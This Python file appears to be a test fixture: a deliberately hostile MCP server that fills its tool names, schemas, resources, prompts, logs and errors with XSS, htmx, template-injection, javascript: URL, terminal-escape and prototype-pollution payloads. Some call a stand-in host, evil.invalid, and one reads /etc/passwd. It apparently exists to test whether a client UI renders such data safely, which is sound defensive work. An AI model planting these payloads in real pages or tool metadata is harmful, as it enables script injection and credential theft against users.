"""A stdio server that puts every payload of `PAYLOADS` into every place that a page may show.

`python -I -S evil.py [offer|ask|refuse|leave]`: offers all of it, or asks for more whatever is called, or
refuses to open, or leaves at once, with payloads in what it says then. Standard library only. What it offers
beside names and schemas:

- the tool of each payload, which has it for a name, and `schema`, whose form has it in every member;
- `results`, `fails`, `refuses`, `tells` (progress, log, stderr), `changes` (its lists), `ends`;
- `echo`, which answers the arguments as they came, as a text of JSON;
- `deep`, `wide`, `circles`, `numbers`: schemas that are hard to draw.
"""

import json
import sys
from typing import Any

CANARY = "/ui/canary"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQ9MSI+PC9zdmc+"

PAYLOADS: tuple[str, ...] = (
    # scripts and handlers
    "<script>pwned=1;alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<script type=module>import '/ui/canary-module'</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.invalid/img.png>",
    "<img srcset='/ui/canary-srcset 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><style><p id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=/ui/canary-audio autoplay onerror=alert(1)>",
    "<xss style='animation-name:spin' onanimationstart=alert(1)>",
    # htmx
    "<button hx-post='/ui/canary-post' hx-trigger='load'>x</button>",
    "<div hx-get='/ui/canary-get' hx-trigger='load delay:1ms'></div>",
    "<div data-hx-get='/ui/canary-data' data-hx-trigger='load'></div>",
    "<div hx-on:htmx:load='alert(1)' hx-on--load='alert(1)'></div>",
    "<div hx-sse:connect='/ui/canary-sse'></div>",
    "<div hx-ws:connect='/ui/canary-ws'></div>",
    "<hx-partial hx-target='body' hx-swap='innerHTML'><b id=pwned>x</b></hx-partial>",
    "<template hx type=partial hx-target='body'><b>x</b></template>",
    "<div hx-vals='js:{a:alert(1)}' hx-delete='/ui/canary-delete' hx-trigger='every 10ms'></div>",
    "</div></div></main><div hx-get='/ui/canary-out' hx-trigger='load'>",
    "<a href='/ui/canary-boost' hx-boost='true' hx-preload>x</a>",
    "<div hx-config='{\"extensions\":\"x\"}' hx-include='*'></div>",
    # what loads, frames, sends or styles
    "<style>@import '/ui/canary-css';*{background:url(//evil.invalid/c)}</style>",
    "<link rel=stylesheet href=/ui/canary-link>",
    "<link rel=manifest href=//evil.invalid/m>",
    "<meta http-equiv=refresh content='0;url=/ui/canary-refresh'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=//evil.invalid/>",
    "<iframe src=/ui/canary-frame></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=/ui/canary-object></object><embed src=/ui/canary-embed>",
    "<form action=//evil.invalid method=post><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1) form=tools>x</button>",
    "<div style='position:fixed;inset:0;background:url(/ui/canary-style)'>",
    "url(//evil.invalid/u) expression(alert(1))",
    "<dialog open id=reader>x</dialog><p id=said>x</p>",
    # ends of what it stands in
    "</script><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</style></template></select></option><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    '" autofocus onfocus="alert(1)',
    "' hx-get='/ui/canary-quote' hx-trigger='load",
    "x onfocus=alert(1) tabindex=0",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\x3cimg src=x onerror=alert(1)\\x3e \\u003cscript\\u003e",
    # templates and markup languages
    "{{7*7}}{{ constructor.constructor('alert(1)')() }}",
    "{% include '/etc/passwd' %}{# x #}",
    "${alert(1)} #{alert(1)} <%= 7*7 %> {{{x}}}",
    "[x](javascript:alert(1)) ![x](//evil.invalid/md.png)",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.invalid/" onclick="alert(1)',
    "//evil.invalid/../..",
    "../../api/servers",
    "blob:null/x",
    # what hides, acts on a terminal or ends a line
    "a\x00b<img src=x onerror=alert(1)>",
    "\x1b]0;x\x07\x1b]52;c;eA==\x07\x1b[2J",
    "\u202egpj.exe\u2066x\u2069",
    "a\u200bb\ufeffc\u2060d\U000e0041",
    "one\n\ndata: <b>two</b>\n\nevent: error\ndata: {}",
    "one\r\rdata: <hx-partial hx-target='body'>x</hx-partial>\r\n\r\n",
    "a\u2028b\u2029c\x85d",
    # names that scripts have
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "p0",
    "..",
    "x" * 900,
)
LONG = "<img src=x onerror=alert(1)> " * 3_500  # 100 kB
ALL = "\n".join(PAYLOADS)
HALF = "\ud800<img src=x onerror=alert(1)>"
CHOICES = ("<b>", "a&b", "__proto__", "\"quotes'", "&lt;", "{{ value }}", "é\u202e", " blank ")


def member(payload: str) -> dict[str, Any]:
    """The schema of a property, with the payload wherever a text may stand."""
    library = {
        f"x-{name}": payload
        for name in (
            "format",
            "info",
            "title",
            "switcherTitle",
            "enumTitles",
            "titleIconClass",
            "box",
            "free",
        )
    }
    return {
        "type": "string",
        "title": payload,
        "description": payload,
        "default": payload,
        "examples": [payload],
        "format": payload,
        "pattern": payload,
        "contentMediaType": payload,
        "$id": payload,
        "$comment": payload,
        "x-options": {"purifyHtml": False, "parseMarkdown": True},
        "x-inputAttributes": {"onfocus": "alert(1)", "hx-get": CANARY, payload: payload},
        "x-containerAttributes": {"style": "x", "onclick": payload},
        "x-enumSource": [{"source": "/ui/canary-source"}],
        payload: payload,
        **library,
    }


def schema() -> dict[str, Any]:
    properties: dict[str, Any] = {payload: member(payload) for payload in PAYLOADS}
    properties["choice"] = {"enum": list(PAYLOADS), "title": ALL, "x-enumTitles": list(PAYLOADS)}
    properties["always"] = {"const": ALL}
    properties["several"] = {"anyOf": [{"title": one, "type": "integer"} for one in PAYLOADS[:20]]}
    properties["elsewhere"] = {"$ref": "//evil.invalid/schema", "$schema": "http://evil.invalid"}
    properties["slow"] = {"type": "string", "pattern": "^(a+)+$", "default": "a" * 40 + "!"}
    properties["list"] = {"type": "array", "items": member(PAYLOADS[3]), "default": list(PAYLOADS[:3])}
    properties["inside"] = {
        "type": "object",
        "properties": {"__proto__": member(PAYLOADS[0]), "constructor": {"type": "object", "default": {}}},
        "default": {"__proto__": ALL},
    }
    required = sorted({*list(properties)[::2], "__proto__"})
    return {"type": "object", "properties": properties, "required": required, "title": ALL}


def deep(levels: int) -> dict[str, Any]:
    made: dict[str, Any] = {"type": "string"}
    for _ in range(levels):
        made = {"type": "object", "properties": {"a": made}}
    return made


def chosen() -> dict[str, Any]:
    """What `echo` takes: each of `CHOICES` by its own name, and the same to choose from."""
    properties = {one: {"enum": list(CHOICES)} for one in CHOICES} | {"free": {"type": "string"}}
    return {"type": "object", "properties": properties, "required": list(properties)}


def tools() -> list[dict[str, Any]]:
    plain: dict[str, Any] = {"type": "object"}
    huge = {
        "minimum": int("9" * 400),
        "maximum": 1e400,
        "multipleOf": -0.0,
        "default": 1e400,
        "enum": [1e400],
    }
    made = [
        {
            "name": payload,
            "title": payload,
            "description": payload,
            "annotations": {"title": payload, "readOnlyHint": payload, payload: True},
            "icons": [{"src": "javascript:alert(1)", "mimeType": payload}],
            "inputSchema": plain,
        }
        for payload in PAYLOADS
    ]
    many: dict[str, Any] = {f"p{number}": {} for number in range(50_000)}
    circle = {
        "a": {"$ref": "#"},
        "b": {"$ref": "#/properties/b"},
        "c": {"allOf": [{"$ref": "#/properties/c"}]},
    }
    return [
        *made,
        {
            "name": "schema",
            "title": ALL,
            "description": LONG,
            "inputSchema": schema(),
            "outputSchema": schema(),
        },
        {"name": "echo", "inputSchema": chosen()},
        {"name": "half", "title": HALF, "description": HALF, "inputSchema": {**plain, "title": HALF}},
        {"name": "deep", "inputSchema": deep(120)},
        {"name": "wide", "inputSchema": {**plain, "properties": many}},
        {"name": "circles", "inputSchema": {**plain, "properties": circle}},
        {"name": "numbers", "inputSchema": {**plain, "properties": {"n": {"type": "integer", **huge}}}},
        *(
            {"name": name, "inputSchema": plain}
            for name in ("results", "fails", "refuses", "tells", "changes", "ends")
        ),
    ]


def said(payload: str) -> dict[str, Any]:
    return {"name": payload[:900], "title": payload, "description": payload, "mimeType": payload}


def resources() -> list[dict[str, Any]]:
    made = [{"uri": f"x://{payload}", "size": int("9" * 400), **said(payload)} for payload in PAYLOADS]
    return (
        [{"uri": payload, **said(ALL)} for payload in PAYLOADS] + made + [{"uri": "x://half", "name": HALF}]
    )


def templates() -> list[dict[str, Any]]:
    return [{"uriTemplate": f"x://{{{payload}}}/{payload}", **said(payload)} for payload in PAYLOADS]


def prompts() -> list[dict[str, Any]]:
    arguments = [{"name": one, "title": one, "description": one, "required": True} for one in PAYLOADS[:40]]
    return [
        {"name": one, "title": one, "description": one, "arguments": arguments[:1]} for one in PAYLOADS
    ] + [
        {"name": "asks", "description": LONG, "arguments": [*arguments, {"name": HALF, "description": HALF}]}
    ]


def blocks() -> list[Any]:
    """Content of every kind, with every payload wherever it has a text."""
    made: list[Any] = [{"type": "text", "text": payload} for payload in PAYLOADS]
    for payload in PAYLOADS:
        made += [
            {"type": "resource_link", "uri": payload, **said(payload)},
            {"type": "resource", "resource": {"uri": payload, "mimeType": payload, "text": payload}},
            {"type": "image", "data": payload, "mimeType": payload},
        ]
    kinds = ("image/svg+xml", "image/png", "text/html", "constructor", "image/png,x", "IMAGE/GIF ", "a\x00b")
    made += [{"type": kind, "data": SVG, "mimeType": mime} for kind in ("image", "audio") for mime in kinds]
    made += [
        {"type": "image", "data": PNG, "mimeType": "image/png"},
        {"type": "image", "data": "A", "mimeType": "text/plain"},
        {"type": "audio", "data": "AAAA=", "mimeType": "audio/wav"},
        {"type": "resource", "resource": {"uri": "data:text/html,x", "mimeType": "text/html", "blob": SVG}},
        {"type": "text", "text": json.dumps({payload: payload for payload in PAYLOADS})},
        {"type": "text", "text": "[" * 5_000 + "]" * 5_000},
        {"type": "text", "text": HALF},
        {"type": "text", "text": LONG},
        *({"type": payload, "text": payload} for payload in PAYLOADS[:10]),
        None,
        [],
        1e400,
    ]
    return made


def result() -> dict[str, Any]:
    structured: dict[str, Any] = {payload: {payload: [payload, 1e400]} for payload in PAYLOADS}
    line: dict[str, Any] = {}
    for _ in range(300):
        line = {"a": line}
    about = {"mcp-gateway/artifact": {"url": "javascript:alert(1)", "size": ALL}, "<b>": ALL}
    return {"content": blocks(), "structuredContent": structured | {"line": line}, "_meta": about}


def asks() -> dict[str, Any]:
    fields = {payload: {"type": "string", "title": payload} for payload in PAYLOADS}
    params = {"mode": "form", "message": ALL, "requestedSchema": {"type": "object", "properties": fields}}
    requests = {ALL: {"method": "elicitation/create", "params": params}}
    return {"resultType": "input_required", "inputRequests": requests, "requestState": ALL}


class Server:
    def __init__(self, way: str) -> None:
        self.way = way
        self.changed = 0

    def send(self, message: dict[str, Any]) -> None:
        text = json.dumps({"jsonrpc": "2.0", **message}).replace("Infinity", "1e400")  # which is JSON
        sys.stdout.write(text + "\n")
        sys.stdout.flush()

    def tell(self, method: str, **params: Any) -> None:
        self.send({"method": method, "params": params})

    def complain(self) -> None:
        for payload in (*PAYLOADS, LONG):
            sys.stderr.write(payload + "\n")
        sys.stderr.flush()

    def opened(self) -> dict[str, Any]:
        kinds = ("tools", "resources", "prompts")
        capabilities: dict[str, Any] = {kind: {"listChanged": True} for kind in kinds}
        capabilities |= {"logging": {}, **{payload: {payload: payload} for payload in PAYLOADS}}
        return {
            "protocolVersion": "2025-06-18",
            "capabilities": capabilities,
            "serverInfo": {"name": ALL, "title": ALL, "version": ALL, "websiteUrl": "javascript:alert(1)"},
            "instructions": f"{ALL}\n{LONG}",
        }

    def call(self, message: dict[str, Any]) -> dict[str, Any] | None:
        params = message["params"]
        token = params.get("_meta", {}).get("progressToken")
        match params["name"]:
            case "echo":
                return {"content": [{"type": "text", "text": json.dumps(params["arguments"])}]}
            case "fails":
                return {"content": [{"type": "text", "text": ALL}], "isError": True}
            case "refuses":
                error = {"code": -32055, "message": ALL, "data": {payload: payload for payload in PAYLOADS}}
                self.send({"id": message["id"], "error": error})
                return None
            case "tells":
                self.complain()
                for number, payload in enumerate((*PAYLOADS, HALF)):
                    note = {"progressToken": token, "progress": number, "total": 1e300, "message": payload}
                    self.tell("notifications/progress", **note)
                    for level in ("error", payload):
                        data: Any = payload if number % 2 else {payload: payload}
                        self.tell("notifications/message", level=level, logger=payload, data=data)
                return {"content": []}
            case "changes":
                self.changed += 1
                for kind in ("tools", "resources", "prompts"):
                    self.tell(f"notifications/{kind}/list_changed")
                return {"content": []}
            case "ends":
                self.complain()
                sys.exit(3)
        return result()

    def answer(self, message: dict[str, Any]) -> dict[str, Any] | None:
        match message["method"]:
            case "server/discover" if self.way == "ask":
                return {"supportedVersions": ["2026-07-28"], "capabilities": {"tools": {}}}
            case "server/discover":
                self.send({"id": message["id"], "error": {"code": -32601, "message": ALL}})
                return None
            case "initialize" if self.way in ("ask", "refuse"):
                self.send({"id": message["id"], "error": {"code": -32000, "message": ALL, "data": ALL}})
                return None
            case "initialize":
                return self.opened()
            case "tools/list" if self.way == "ask":
                return {"tools": [{"name": "asks", "inputSchema": {"type": "object"}}]}
            case "tools/list":
                extra = [
                    {"name": f"new-{self.changed}", "description": ALL, "inputSchema": {"type": "object"}}
                ]
                return {"tools": tools() + (extra if self.changed else [])}
            case "resources/list":
                return {"resources": resources()}
            case "resources/templates/list":
                return {"resourceTemplates": templates()}
            case "prompts/list":
                return {"prompts": prompts()}
            case "tools/call" if self.way == "ask":
                return asks()
            case "tools/call":
                return self.call(message)
            case "resources/read":
                contents = [{"uri": one, "mimeType": one, "text": one} for one in PAYLOADS]
                return {"contents": [*contents, {"uri": "x://b", "mimeType": "image/svg+xml", "blob": SVG}]}
            case "prompts/get":
                messages = [{"role": one, "content": {"type": "text", "text": one}} for one in PAYLOADS]
                return {
                    "description": ALL,
                    "messages": [*messages, {"role": "user", "content": blocks()[200]}],
                }
        return {}

    def serve(self) -> None:
        for line in sys.stdin:
            message = json.loads(line)
            if "id" in message and "method" in message:
                answered = self.answer(message)
                if answered is not None:
                    if self.way == "ask":
                        answered = {"resultType": "complete", **answered}
                    self.send({"id": message["id"], "result": answered})


if __name__ == "__main__":
    server = Server(sys.argv[1] if len(sys.argv) > 1 else "offer")
    server.complain()
    if server.way == "leave":
        sys.exit(7)
    server.serve()
